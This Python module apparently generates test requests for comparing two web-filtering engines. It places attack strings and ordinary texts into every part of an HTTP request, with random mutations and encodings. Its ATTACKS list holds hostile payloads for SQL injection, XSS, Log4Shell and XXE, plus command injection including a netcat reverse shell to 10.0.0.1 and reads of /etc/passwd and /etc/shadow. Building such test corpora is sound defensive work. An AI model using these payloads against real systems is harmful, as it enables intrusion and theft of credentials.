"""Requests for two engines with the same rules: attacks and ordinary texts in every place of a request, with a few changes."""

import random
import urllib.parse

ATTACKS = [
    "1' OR '1'='1' -- ", "1 UNION SELECT password FROM users", "'; DROP TABLE users; --", "1 AND SLEEP(5)#", "admin'/*", "1 or 1=1", "a' having 1=1--",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(document.cookie)", "<svg/onload=confirm`1`>", "<a href='data:text/html,x'>", "expression(alert(1))",
    "; cat /etc/passwd", "$(id)", "`uname -a`", "| nc -e /bin/sh 10.0.0.1 4444", "& ping -c 1 example.com", "() { :; }; echo x", "cmd.exe /c dir", "powershell -enc aQBkAA==",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow%00.png", "file:///etc/hosts", "http://127.0.0.1/x?", "https://evil.example/shell.txt?", "php://input",
    "<?php system('id'); ?>", "phpinfo()", "O:8:\"stdClass\":0:{}", "${jndi:ldap://x/a}", "java.lang.Runtime", "{{7*7}}", "process.env", "require('child_process')", "__proto__[x]",
    "(&(uid=*)(userPassword=*))", "a\r\nSet-Cookie: x=1", "<!--#exec cmd=\"ls\"-->", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///x'>]>", "\x00", "%c0%ae%c0%ae/",
]  # fmt: skip
ORDINARY = [
    "green tea", "O'Brien & Sons", "select a colour from the union of both sets", "x < y and y > z", "50 % off", "a@example.org", "C:\\Users\\Me", "Grüße aus Köln", "价格",
    "https://example.org/a?b=c", "It's 5 o'clock; isn't it?", "1,234.50", "2026-01-31T12:00:00Z", "<b>bold</b>", "- one\n- two", "SGVsbG8gd29ybGQ=", "{\"a\": [1, 2]}", "#tag", "",
]  # fmt: skip
ATOMS = ["%00", "/**/", "+", "%20", "\\", "'", '"', "%27", "&#39;", "\\u0027", "%u0027", "%2527", "\t", "\n", "<", ">", "(", ")", ";", "--", "#", "=", "%", "\u00e9", "\uff1c", "0x41", "^", "`", "$", "{", "|", "a"]
BROWSER = [
    ("Host", "app.example.org"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"), ("Accept", "text/html,*/*;q=0.8"),
]  # fmt: skip
FORM, JSON, XML = "application/x-www-form-urlencoded", "application/json", "application/xml"


def changed(text, source):
    """The text with up to three small changes."""
    for _ in range(source.choice((0, 1, 1, 2, 3))):
        at = source.randint(0, len(text))
        match source.randrange(6):
            case 0 | 1:
                text = text[:at] + source.choice(ATOMS) + text[at:]
            case 2:
                text = text[:at] + text[at + 1 :]
            case 3:
                text = "".join(letter.swapcase() if source.random() < 0.4 else letter for letter in text)
            case 4:
                text = text.replace(" ", source.choice(("/**/", "\t", "+", "\x0b", "  ")))
            case 5:
                text = urllib.parse.quote(text)
    return text


def quoted(text, source):
    """As a client writes it into an address or a form, or as one that does so badly."""
    data = text.encode()
    if source.random() < 0.85:
        return urllib.parse.quote_from_bytes(data, safe=source.choice(("", "/", "'()*!"))).encode()
    return b"".join(bytes([byte]) if byte > 32 and byte not in b"#\x7f" else b"%%%02x" % byte for byte in data)


def request(method="GET", target=b"/", headers=(), kind=None, body=b""):
    fields = [*BROWSER, *headers]
    if kind is not None:
        fields += [("Content-Type", kind), ("Content-Length", str(len(body)))]
    return {"method": method.encode(), "target": target, "headers": [(name.encode(), value.encode()) for name, value in fields], "body": body}


def plain(text):
    """A header's value: what a server would let through to its rules."""
    return "".join(letter for letter in text if letter.isprintable()).strip()


def in_query(text, source):
    name = source.choice((b"q", b"id", b"page[0]", b"user.name"))
    return request(target=b"/search?" + name + b"=" + quoted(text, source) + source.choice((b"", b"&x=1", b"&q=2")))


def in_path(text, source):
    return request(target=b"/a/" + quoted(text, source))


def in_form(text, source):
    return request("POST", b"/notes", kind=FORM, body=b"title=x&text=" + quoted(text, source))


def in_name(text, source):
    return request(target=b"/search?" + quoted(text, source) + b"=1")


def in_json(text, source):
    inner = source.choice(('{"text": %s}', '{"a": {"b": [%s]}}', "[%s]", '{"n": 1, "ok": true, "t": %s}'))
    return request("POST", b"/api", kind=JSON, body=(inner % json_text(text)).encode())


def json_text(text):
    return '"' + "".join(letter if letter >= " " and letter not in '"\\' else f"\\u{ord(letter):04x}" for letter in text) + '"'


def in_xml(text, source):
    safe = "".join(letter for letter in text if letter >= " " or letter in "\t\n")
    escaped = safe.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    inner = source.choice(("<a>%s</a>", '<a b="%s"/>', "<a><b>x</b><c>%s</c></a>"))
    return request("POST", b"/api", kind=XML, body=('<?xml version="1.0"?>' + inner % escaped).encode())


def in_multipart(text, source):
    name = source.choice(('name="text"', 'name="f"; filename="a.txt"'))
    body = f'--B0und\r\nContent-Disposition: form-data; {name}\r\n\r\n{text}\r\n--B0und--\r\n'.encode()
    return request("POST", b"/upload", kind="multipart/form-data; boundary=B0und", body=body)


def in_file_name(text, source):
    safe = plain(text).replace('"', "%22")
    body = f'--B0und\r\nContent-Disposition: form-data; name="f"; filename="{safe}"\r\n\r\nx\r\n--B0und--\r\n'.encode()
    return request("POST", b"/upload", kind="multipart/form-data; boundary=B0und", body=body)


def in_cookie(text, source):
    value = urllib.parse.quote(text) if source.random() < 0.5 else plain(text).replace(";", "")
    return request(headers=[("Cookie", f"theme=dark; sid={value}")])


def in_header(text, source):
    return request(headers=[(source.choice(("Referer", "X-Note", "X-Forwarded-For", "Accept-Language")), plain(text))])


PLACES = [in_query, in_path, in_form, in_name, in_json, in_xml, in_multipart, in_file_name, in_cookie, in_header]


def cases(place, count, seed=1):
    """Each text once as it is, then changed ones; the same for the same seed."""
    source = random.Random(f"{place.__name__} {seed}")
    for text in ATTACKS + ORDINARY:
        yield place(text, source)
    for _ in range(count):
        yield place(changed(source.choice(ATTACKS * 3 + ORDINARY), source), source)


def wire(case):
    """The request as bytes."""
    lines = [case["method"] + b" " + case["target"] + b" HTTP/1.1", *(name + b": " + value for name, value in case["headers"])]
    return b"\r\n".join(lines) + b"\r\n\r\n" + case["body"]
